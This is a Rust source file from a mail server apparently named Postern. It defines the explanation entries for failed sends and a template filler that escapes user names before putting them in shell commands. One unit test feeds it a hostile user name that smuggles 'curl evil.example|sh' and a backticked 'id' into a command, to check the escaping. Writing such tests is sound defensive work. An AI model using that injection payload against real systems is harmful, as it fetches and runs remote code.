//! What there is to say about a cause: for the person, for the administrator, and for each program.
//!
//! The types to know: [`Section`], one entry of the table that `postern explain`, the console and the page "When someone
//! cannot send" are made from; [`Program`]; [`Gravity`]; [`Words`], what the places in a text stand for.
//!
//! What it deliberately does not do: hold the texts (see [`sections`](super::sections)).

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::event::clean;

/// What there is to say about a cause.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Section {
    /// A heading.
    pub title: &'static str,
    /// What it is and how it comes about, for an administrator.
    pub meaning: &'static str,
    /// What to tell the person: one or two sentences that he can act on. In all texts `{host}`, `{starttls_port}` and
    /// `{tls_port}` stand for themselves, `{account}` for "the account anna" and `{login}` for "user name anna"; `{user}`, which
    /// is the name alone, is for what is typed.
    pub user: &'static str,
    /// What the administrator does: the exact commands and keys of Postern.
    pub remedy: &'static str,
    /// What to do in a program, where that is known word for word.
    pub programs: &'static [(Program, &'static str)],
    /// What mail programs show when it happens: to find the section by.
    pub symptoms: &'static [&'static str],
    /// How bad it is.
    pub gravity: Gravity,
}

/// How bad a trouble is. The worst is last.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Gravity {
    /// Nobody of ours is concerned: scanners, strangers.
    Noise,
    /// A program or another server is set up wrongly; perhaps nobody waits for it.
    Program,
    /// Somebody of ours cannot send.
    Person,
}

/// A program that sends mail, as far as its settings differ.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum Program {
    /// Outlook for Windows with the ribbon and the File tab.
    OutlookClassic,
    /// The new Outlook for Windows.
    OutlookNew,
    /// Thunderbird on a computer.
    Thunderbird,
    /// Mail on a Mac.
    AppleMail,
    /// Mail on an iPhone or iPad.
    IosMail,
    /// The Gmail app with another provider's account.
    GmailApp,
    /// Thunderbird for Android, and K-9 Mail.
    ThunderbirdAndroid,
    /// Printers, scanners, cameras and the like.
    Printer,
    /// msmtp.
    Msmtp,
    /// Mutt and NeoMutt.
    Mutt,
    /// s-nail.
    SNail,
    /// swaks.
    Swaks,
    /// curl.
    Curl,
    /// Python's smtplib.
    Smtplib,
    /// Perl's Net::SMTP.
    NetSmtp,
    /// Nodemailer.
    Nodemailer,
    /// PHPMailer.
    PhpMailer,
    /// WordPress with the plugin WP Mail SMTP.
    WordPress,
    /// openssl s_client.
    OpensslClient,
    /// Another mail server.
    MailServer,
}

impl Program {
    /// What people call it.
    pub fn name(self) -> &'static str {
        match self {
            Self::OutlookClassic => "Outlook (classic)",
            Self::OutlookNew => "Outlook (new)",
            Self::Thunderbird => "Thunderbird",
            Self::AppleMail => "Mail on a Mac",
            Self::IosMail => "Mail on iPhone and iPad",
            Self::GmailApp => "Gmail app",
            Self::ThunderbirdAndroid => "Thunderbird for Android, K-9 Mail",
            Self::Printer => "printers and scanners",
            Self::Msmtp => "msmtp",
            Self::Mutt => "Mutt, NeoMutt",
            Self::SNail => "s-nail",
            Self::Swaks => "swaks",
            Self::Curl => "curl",
            Self::Smtplib => "Python smtplib",
            Self::NetSmtp => "Perl Net::SMTP",
            Self::Nodemailer => "Nodemailer",
            Self::PhpMailer => "PHPMailer",
            Self::WordPress => "WordPress (WP Mail SMTP)",
            Self::OpensslClient => "openssl s_client",
            Self::MailServer => "another mail server",
        }
    }
}

impl fmt::Display for Program {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// What the places in a text stand for here.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Words<'a> {
    /// The server name that people enter, which a certificate bears.
    pub host: &'a str,
    /// The port for STARTTLS: 587, unless it is moved. `None`: there is none, and no sentence that names it is told.
    pub starttls_port: Option<u16>,
    /// The port for TLS from the first octet: 465, unless it is moved. `None`: as above.
    pub tls_port: Option<u16>,
    /// Whose account it concerns, never what a client claims. Without one, sentences say "your account" and "your user name", and
    /// commands `NAME`, as they do where the name could mean something to a shell.
    pub user: Option<&'a str>,
}

impl Words<'_> {
    /// Fills a text's places; sentences that name a port that is not there are left out.
    pub fn fill(&self, text: &str) -> String {
        if self.holds(text) {
            return self.filled(text);
        }
        let sentences: Vec<&str> =
            text.split_inclusive(". ").filter(|sentence| self.holds(sentence)).collect();
        self.filled(sentences.concat().trim_end())
    }

    /// Fills the places of what is of use as a whole only. `None`: it names a port that is not there.
    pub fn step(&self, text: &str) -> Option<String> {
        self.holds(text).then(|| self.filled(text))
    }

    fn holds(&self, text: &str) -> bool {
        (self.starttls_port.is_some() || !text.contains("{starttls_port}"))
            && (self.tls_port.is_some() || !text.contains("{tls_port}"))
    }

    /// What stands for a place is never looked at for further places.
    fn filled(&self, text: &str) -> String {
        let mut filled = String::with_capacity(text.len() + 32);
        let mut rest = text;
        let mut stands = Stands::InWords;
        while let Some((before, place)) = rest.split_once('{') {
            filled.push_str(before);
            stands = stands.after(before);
            let value = |(name, after)| Some((self.value(name, stands)?, after));
            let known = place.split_once('}').and_then(value);
            if let Some((value, after)) = known {
                filled.push_str(&value);
                rest = after;
            } else {
                filled.push('{');
                rest = place;
            }
        }
        filled.push_str(rest);
        filled
    }

    fn value(&self, name: &str, stands: Stands) -> Option<String> {
        match name {
            "host" => Some(self.host.to_owned()),
            "starttls_port" => self.starttls_port.map(|port| port.to_string()),
            "tls_port" => self.tls_port.map(|port| port.to_string()),
            "user" => Some(self.name(stands)),
            "login" => Some(self.about("user name", "your user name")),
            "account" => Some(self.about("the account", "your account")),
            _ => None,
        }
    }

    /// What the name is, with it; else what is said without one.
    fn about(&self, what: &str, without: &str) -> String {
        self.user.map_or_else(|| without.to_owned(), |user| format!("{what} {}", in_words(user)))
    }

    fn name(&self, stands: Stands) -> String {
        match (stands, self.user) {
            (Stands::InCommand, Some(user)) if is_plain(user) => user.to_owned(),
            (Stands::InWords, Some(user)) => in_words(user),
            (Stands::InCommand, _) | (_, None) => "NAME".to_owned(),
        }
    }
}

/// Where a place stands in a text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Stands {
    InWords,
    /// Between backticks: to be pasted into a shell or a file.
    InCommand,
}

impl Stands {
    fn after(self, text: &str) -> Self {
        match (self, text.matches('`').count() % 2) {
            (Self::InWords, 1) => Self::InCommand,
            (Self::InCommand, 1) => Self::InWords,
            (same, _) => same,
        }
    }
}

/// A name in a sentence: it can neither begin nor end a command.
fn in_words(user: &str) -> String {
    clean(user).replace('`', "?")
}

/// A name that means nothing to a shell, nor an option to a command.
fn is_plain(name: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || ".@_+-".contains(c);
    name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.chars().all(plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    const WORDS: Words<'_> = Words {
        host: "mail.example.org",
        starttls_port: Some(587),
        tls_port: Some(465),
        user: Some("{host}"),
    };

    #[test]
    fn places_are_filled_once_and_braces_of_others_stay() {
        let text = "{host}:{starttls_port}, {tls_port} as {user}; { secure: false } {unknown} {";
        let filled = "mail.example.org:587, 465 as {host}; { secure: false } {unknown} {";
        assert_eq!(WORDS.fill(text), filled);
    }

    #[test]
    fn without_a_name_sentences_and_commands_say_what_fits() {
        let words = Words { user: None, ..WORDS };
        let text = "Of {account}: `postern user show {user}`. Enter {login}.";
        let filled = "Of your account: `postern user show NAME`. Enter your user name.";
        assert_eq!(words.fill(text), filled);
        let words = Words { user: Some("anna"), ..WORDS };
        assert_eq!(words.fill(text), "Of the account anna: `postern user show anna`. Enter user name anna.");
    }

    #[test]
    fn a_command_has_a_name_in_it_only_if_it_means_nothing_to_a_shell() {
        let text = "Of {user}: `postern user show {user}`, then `x` {user} and `y {user}`.";
        let filled = |user| Words { user, ..WORDS }.fill(text);
        let anna = "anna.b+c@home-1.test";
        assert_eq!(filled(Some(anna)), text.replace("{user}", anna));
        assert_eq!(filled(None), "Of NAME: `postern user show NAME`, then `x` NAME and `y NAME`.");
        let hostile = "x;curl evil.example|sh;#`id`";
        let told = hostile.replace('`', "?");
        assert_eq!(
            filled(Some(hostile)),
            format!("Of {told}: `postern user show NAME`, then `x` {told} and `y NAME`.")
        );
        for name in ["", "--json", "-rf", "a b", "a$b", "a\u{202e}b", "ü", "a'b", "a\\b", ".x"] {
            assert!(!is_plain(name), "{name}");
        }
    }

    #[test]
    fn a_sentence_that_names_a_port_that_is_not_there_is_left_out_and_a_step_wholly() {
        let words = Words { starttls_port: None, ..WORDS };
        let text = "It is set wrongly. Choose STARTTLS with port {starttls_port}. Or ask {host}.";
        assert_eq!(words.fill(text), "It is set wrongly. Or ask mail.example.org.");
        assert_eq!(words.step(text), None);
        assert_eq!(words.step("Port {tls_port}.").as_deref(), Some("Port 465."));
    }

    #[test]
    fn the_worst_gravity_is_the_greatest() {
        assert!(Gravity::Noise < Gravity::Program && Gravity::Program < Gravity::Person);
    }
}
